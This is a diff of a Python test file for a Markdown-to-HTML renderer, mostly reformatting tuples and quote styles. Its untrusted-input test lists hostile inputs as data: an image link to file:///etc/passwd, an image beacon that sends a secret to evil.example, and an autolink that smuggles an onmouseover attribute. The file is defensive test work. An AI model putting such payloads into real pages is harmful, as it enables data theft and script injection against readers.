@@ -29,7 +29,10 @@ def tags(html: str) -> set[str]:
         ("*it* **bold** ~~gone~~", "<p><i>it</i> <b>bold</b> <s>gone</s></p>"),
         ("a  \nb", "<p>a<br/>b</p>"),
         ("---", "<hr/>"),
-        ("[site](https://example.com/a?b=1&c=2)", '<p><a href="https://example.com/a?b=1&amp;c=2">site</a></p>'),
+        (
+            "[site](https://example.com/a?b=1&c=2)",
+            '<p><a href="https://example.com/a?b=1&amp;c=2">site</a></p>',
+        ),
         ("<mailto:ann@example.com>", '<a href="mailto:ann@example.com">'),
     ],
 )
@@ -40,7 +43,7 @@ def test_elements(source: str, expected: str) -> None:
 def test_table_alignment_and_quote() -> None:
     html = render_html("| L | R |\n|:--|--:|\n| 1 | 2 |\n\n> quoted *text*")
     assert '<th align="left">L</th><th align="right">R</th>' in html
-    assert "<td align=\"right\">2</td>" in html
+    assert '<td align="right">2</td>' in html
     assert 'class="quote"' in html and "<i>text</i>" in html
 
 
@@ -86,7 +89,7 @@ def test_nested_code_gets_copy_anchor() -> None:
         "![pic](file:///etc/passwd)",
         "![pic](http://evil.example/beacon?k=SECRET)",
         "![pic](data:image/png;base64,iVBORw0KGgo=)",
-        "<https://ok.example/\"onmouseover=\"x>",
+        '<https://ok.example/"onmouseover="x>',
     ],
 )
 def test_untrusted_input_is_neutralised(source: str) -> None:
